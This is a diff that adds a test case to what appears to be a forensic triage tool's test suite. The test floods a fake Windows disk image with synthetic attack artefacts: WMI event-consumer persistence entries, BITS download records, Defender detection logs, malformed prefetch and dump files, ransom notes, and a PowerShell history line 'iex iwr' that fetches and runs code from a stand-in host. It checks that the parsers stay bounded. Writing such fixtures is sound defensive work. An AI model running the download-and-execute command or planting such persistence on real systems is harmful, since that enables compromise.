@@ -192,6 +192,32 @@ def parsers(root):
     need("notes.txt" in shown and "a.png" in shown, "first bytes tell a dump and an archive, whatever they are called")
 
 
+def leftovers(root):
+    binding = b'CommandLineEventConsumer.Name="%d"\0__EventFilter.Name="%d"\0CommandLineEventConsumer\0C:\\ProgramData\\%d.exe\0%d\0'
+    put(root, "C/Windows/System32/wbem/Repository/OBJECTS.DATA", b"".join(binding % (i, i, i, i) for i in range(150000)))
+    wide = lambda s: s.encode("utf-16-le") + b"\0\0"
+    put(root, "C/ProgramData/Microsoft/Network/Downloader/qmgr.db", b"".join(
+        wide(f"C:\\ProgramData\\{i}.exe") + wide(f"http://198.51.100.1/{i}.exe") for i in range(100000)))
+    put(root, "C/Windows/Prefetch/A.EXE-1.pf", b"MAM\4" + struct.pack("<I", 0x7fffffff) + b"x" * 300)
+    put(root, "C/Windows/Prefetch/B.EXE-2.pf", b"MAM\4" + struct.pack("<I", 8 << 20) + b"\x99" * 256 + b"x" * 4096)
+    defender = "C/ProgramData/Microsoft/Windows Defender/"
+    put(root, defender + "Support/MPLog-1.log", "".join(f"2021-03-09T01:10:00.000Z DETECTION_ADD#1 Test:Win32/A.{i} file:C:\\ProgramData\\{i}.exe\n" for i in range(60000)))
+    put(root, defender + "Quarantine/Entries/x", b"\0" * 400)
+    put(root, defender + "Scans/History/Service/DetectionHistory/01/x", b"\xff" * (5 << 20))
+    put(root, "C/Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "`\n" * 500000 + "iex iwr http://198.51.100.1/x\n" * 20000)
+    dump = b"MDMP\x93\xa7\0\0" + struct.pack("<II", 128, 32) + b"\0" * 16 + struct.pack("<III", 4, 0xffffffff, 1600) * 128
+    put(root, "C/ProgramData/many.dmp", dump + struct.pack("<I", 0xffffffff) + struct.pack("<I", 1600) * 20000)
+    put(root, "C/ProgramData/svchost.exe", b"MZ" + b".idata\0.symtab\0" + bytes.fromhex("3077af0c9274080241e1c107e6d618e6") * 200000)
+    for i in range(2000):
+        put(root, f"C/Users/Public/{i}/how_to_decrypt.txt", "All your files are encrypted. Pay in bitcoin by the Tor Browser.")
+    yield
+    r = yield
+    for name in ("OBJECTS.DATA", "qmgr.db", "A.EXE-1.pf", "B.EXE-2.pf", "MPLog-1.log", "Entries\\x", "DetectionHistory"):
+        damaged(r, name)
+    need(len(r["ways_back"]) < 2500, "what a flood may tell is bounded")
+    need(r["omitted"]["findings"] > 0, "what was left out is counted")
+
+
 def words(root):
     body = ""
     for i, s in enumerate(ODD):
@@ -215,7 +241,7 @@ def unreadable(root):
     need(web["covers_window"] != "full" and web["missing"], "what could not be read is not covered")
 
 
-CASES = [gz, bomb, long_rows, line_ends, numbers, flood_of_requests, flood_of_pages, fs, parsers, words, unreadable]
+CASES = [gz, bomb, long_rows, line_ends, numbers, flood_of_requests, flood_of_pages, fs, parsers, leftovers, words, unreadable]
 
 
 # ---- what holds for every hunt ----
